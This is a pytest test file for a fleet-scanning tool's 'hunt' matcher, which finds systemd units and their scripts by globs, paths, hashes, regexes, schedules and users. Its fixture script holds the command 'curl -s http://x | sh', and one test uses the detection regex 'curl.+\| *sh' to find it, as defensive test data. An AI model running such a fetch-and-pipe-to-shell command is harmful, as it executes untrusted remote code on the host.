"""What matches a hunt: globs, calendars, hashes and regular expressions over hostile text."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleetscan.errors import UsageError
from fleetscan.export.question_records import MatchRecord
from fleetscan.model.digest import digest_bytes
from fleetscan.model.finding import Provenance
from fleetscan.model.ids import Sha256
from fleetscan.model.program import Verification
from fleetscan.model.subject import Piece, PieceRole, Subject
from fleetscan.operations.hunt_match import (
    MAX_FILE_BYTES,
    MAX_MATCHES,
    Quarry,
    TextPattern,
    match_subject,
    matches_text,
)
from tests.model_data import ETC, job, read_stored

SCRIPT = b"#!/bin/sh\ncurl -s http://x | sh\n"
CONTENTS = {digest_bytes(SCRIPT): SCRIPT}


def read(sha256: Sha256) -> bytes | None:
    return CONTENTS.get(sha256, read_stored(sha256))


def with_script(subject: Subject) -> Subject:
    script = Piece(
        role=PieceRole.SCRIPT,
        path="/opt/x/run.sh",
        real_path="/srv/run.sh",
        sha256=digest_bytes(SCRIPT),
        verification=Verification.UNOWNED,
    )
    return replace(subject, pieces=(script,))


BACKUP = with_script(job(exec_start="/bin/sh /opt/x/run.sh --all", service={"User": "copy"}))


def found(quarry: Quarry, subject: Subject = BACKUP) -> list[tuple[str, str, int]]:
    return [(m.criterion, m.path, m.line) for m in match_subject(quarry, subject, read)]


@pytest.mark.parametrize(
    ("pattern", "places"),
    [
        ("/opt/x", [(f"{ETC}/backup.service", 2), ("/opt/x/run.sh", 0)]),
        ("--all", [(f"{ETC}/backup.service", 2)]),
        ("/bin/sh *", [(f"{ETC}/backup.service", 2)]),
        ("/srv/*", [("/opt/x/run.sh", 0)]),
        ("--al?", []),
        ("nowhere", []),
    ],
)
def test_a_command_is_found_by_a_part_of_it_or_a_glob_over_all_of_it(
    pattern: str, places: list[tuple[str, int]]
) -> None:
    assert [(path, line) for _, path, line in found(Quarry(executes=(pattern,)))] == places


@pytest.mark.parametrize(("pattern", "count"), [(ETC, 3), (f"{ETC}/", 3), ("/etc/sys", 0), ("/opt/*/run.sh", 1)])
def test_a_path_is_found_by_itself_a_folder_above_it_or_a_glob(pattern: str, count: int) -> None:
    assert len(found(Quarry(paths=(pattern,)))) == count


def test_a_hash_is_found_in_units_and_in_what_they_run() -> None:
    assert found(Quarry(hashes=(digest_bytes(SCRIPT),))) == [("sha256", "/opt/x/run.sh", 0)]
    unit = BACKUP.sources[0].sha256
    assert unit is not None
    assert found(Quarry(hashes=(unit,))) == [("sha256", f"{ETC}/backup.timer", 0)]


def test_text_is_found_with_its_line_in_units_and_scripts() -> None:
    assert found(Quarry(texts=(TextPattern(r"curl.+\| *sh"),))) == [("text", "/opt/x/run.sh", 2)]
    assert found(Quarry(texts=(TextPattern("(?i)^oncalendar="),))) == [("text", f"{ETC}/backup.timer", 2)]


@pytest.mark.parametrize(
    ("asked", "is_found"),
    [
        ("daily", True),
        ("*-*-* 00:00:00", True),
        ("*-*-* 0:0", True),
        ("00:00", True),
        ("hourly", False),
        ("dail", True),
        ("every*", False),
    ],
)
def test_a_schedule_is_found_by_its_meaning_or_a_part_of_its_words(asked: str, is_found: bool) -> None:
    assert bool(found(Quarry(schedules=(asked,)))) is is_found


def test_a_user_is_found_where_it_is_set() -> None:
    assert found(Quarry(users=("co*",))) == [("user", f"{ETC}/backup.service", 3)]
    assert found(Quarry(users=("root",))) == []


def test_provenance_is_that_of_the_whole_thing() -> None:
    assert found(Quarry(provenances=(Provenance.UNOWNED,)))
    assert not found(Quarry(provenances=(Provenance.VERIFIED,)))


def test_every_kind_that_is_asked_for_must_match_and_of_one_kind_any() -> None:
    assert {kind for kind, _, _ in found(Quarry(executes=("/opt",), users=("copy",)))} == {"exec", "user"}
    assert not found(Quarry(executes=("/opt",), users=("root",)))
    assert found(Quarry(executes=("/opt", "nowhere"), users=("root", "copy")))


def test_a_thing_with_endless_matches_tells_a_bounded_number() -> None:
    many = job(exec_start=[f"/bin/x {number}" for number in range(MAX_MATCHES * 2)])
    assert len(found(Quarry(executes=("/bin/x",)), many)) == MAX_MATCHES


def test_a_pattern_that_explodes_elsewhere_is_linear_here() -> None:
    lines = (b"a" * 60_000 + b"!\n") * 16
    assert TextPattern("^(a+)+$").find_lines(digest_bytes(lines), lambda _: lines) == ()


def test_only_the_beginning_of_a_huge_file_is_looked_through() -> None:
    data = b"\n" * MAX_FILE_BYTES + b"here\n"
    assert TextPattern("here").find_lines(digest_bytes(data), lambda _: data) == ()


@pytest.mark.parametrize("pattern", ["(", "(?=x)", r"(x)\1", "a{1000}{1000}{1000}", "\udc80"])
def test_what_is_no_regular_expression_is_the_users_error(pattern: str) -> None:
    with pytest.raises(UsageError, match="regular expression"):
        TextPattern(pattern)


@given(st.binary(max_size=200))
def test_any_bytes_can_be_looked_through(data: bytes) -> None:
    lines = TextPattern("").find_lines(digest_bytes(data), lambda _: data)
    assert [number for number, _ in lines] == list(range(1, min(5, data.count(b"\n") + 1) + 1))


@given(st.text(max_size=50), st.text(max_size=10))
def test_a_text_has_its_parts(text: str, part: str) -> None:
    if not set("*?[") & set(part):
        assert matches_text(f"{text}{part}{text}", part)


def test_nothing_asked_matches_everything_as_rare() -> None:
    (match,) = match_subject(Quarry(), BACKUP, read)
    assert match == MatchRecord(criterion="rare", text=BACKUP.summary, path=f"{ETC}/backup.timer", line=0)
